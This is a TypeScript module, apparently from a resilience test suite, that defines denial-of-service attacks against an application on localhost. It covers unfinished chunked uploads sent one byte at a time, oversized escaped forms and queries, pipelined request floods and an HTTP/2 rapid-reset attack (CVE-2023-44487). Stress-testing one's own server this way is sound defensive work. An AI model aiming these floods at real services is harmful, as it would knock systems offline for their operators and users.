/** Remote clients of the application. */
import { randomBytes } from 'node:crypto';
import http2 from 'node:http2';
import { type Headers, request } from '../../support/raw-http';
import { type Attack, application, connecting, repeat } from '../attack';

const KEEP: Headers = { Connection: 'keep-alive', 'User-Agent': 'attacker/1' };
const FORM = 'application/x-www-form-urlencoded';
const ESCAPES = '%41=%41&';
/** Node refuses a head beyond 16 KiB. */
const QUERY_BYTES = 15 * 1024;
const FORM_BYTES = 64 * 1024;
const ONE_BYTE_CHUNKS = 5_000;
const PIPELINED = 2_000;
const MADE_UP = 20;
const STREAMS = 50;

const word = () => randomBytes(9).toString('base64url');
const oneByteChunks = (byte: string) => Buffer.from(`1\r\n${byte}\r\n`.repeat(ONE_BYTE_CHUNKS));
const chunk = (text: string) => Buffer.from(`${text.length.toString(16)}\r\n${text}\r\n`);

/** A request whose body has begun and never ends. */
function unfinished(path: string, type: string, ...body: Buffer[]): Buffer {
  const head = request('POST', path, { ...KEEP, 'Content-Type': type, 'Transfer-Encoding': 'chunked' });
  return Buffer.concat([head, ...body]);
}

const unfinishedForm = unfinished('/form', FORM, oneByteChunks('a'));
const unfinishedUpload = unfinished(
  '/upload',
  'multipart/form-data; boundary=x',
  chunk('--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n'),
  oneByteChunks('\r'),
);
const escapedForm = request('POST', '/form', { 'Content-Type': FORM }, ESCAPES.repeat(FORM_BYTES / ESCAPES.length));
const longQuery = request('GET', `/search?${ESCAPES.repeat(QUERY_BYTES / ESCAPES.length)}`);
const pipelined = Buffer.concat([
  request('GET', '/slow', KEEP),
  ...Array.from({ length: PIPELINED }, () => request('GET', '/search', KEEP)),
]);
const madeUp = () =>
  Buffer.concat(
    Array.from({ length: MADE_UP }, () =>
      request('POST', `/${word()}?method_code=${word()}`, { ...KEEP, 'User-Agent': word(), 'X-Code': word() }),
    ),
  );

/** Streams that are reset as soon as they are open (CVE-2023-44487). */
const rapidReset: Attack = {
  name: 'HTTP/2 rapid reset, 50 streams a time',
  start({ http2Port }, acted) {
    const sessions = new Set<http2.ClientHttp2Session>();
    const stop = repeat(1, () => {
      const session = http2.connect(`http://127.0.0.1:${http2Port}`);
      sessions.add(session);
      session.on('error', () => undefined).on('close', () => sessions.delete(session));
      session.on('connect', () => {
        for (let stream = 0; stream < STREAMS; stream++) {
          session
            .request({ ':path': '/reset' })
            .on('error', () => undefined)
            .close(http2.constants.NGHTTP2_CANCEL);
        }
      });
      setTimeout(() => session.destroy(), 900);
      acted();
    });
    return () => {
      stop();
      for (const session of sessions) session.destroy();
    };
  },
};

export const CLIENTS: readonly Attack[] = [
  connecting('unfinished forms in 5,000 one-byte chunks', { perSecond: 1, connections: 30 }, application, (socket) =>
    socket.write(unfinishedForm),
  ),
  connecting('unfinished multipart bodies, the same', { perSecond: 1, connections: 30 }, application, (socket) =>
    socket.write(unfinishedUpload),
  ),
  connecting('forms of 64 KiB of %41=%41&', { perSecond: 4, connections: 20 }, application, (socket) =>
    socket.write(escapedForm),
  ),
  connecting('queries of 15 KiB of %41=%41&', { perSecond: 10, connections: 20 }, application, (socket) =>
    socket.write(longQuery),
  ),
  connecting('made-up paths, callers and codes, 20 a time', { perSecond: 5, connections: 20 }, application, (socket) =>
    socket.write(madeUp()),
  ),
  connecting('2,000 requests after a slow one', { perSecond: 0.05, connections: 4 }, application, (socket) =>
    socket.write(pipelined),
  ),
  rapidReset,
];
